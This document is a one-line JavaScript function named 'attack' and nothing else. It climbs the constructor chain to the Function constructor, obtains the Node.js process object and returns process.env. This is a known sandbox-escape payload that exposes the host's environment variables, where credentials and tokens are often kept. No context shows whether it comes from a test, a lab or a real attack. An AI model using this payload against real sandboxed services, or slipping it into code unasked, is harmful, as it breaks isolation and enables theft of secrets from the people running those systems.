function attack() { return this.constructor.constructor("return process")().env; }
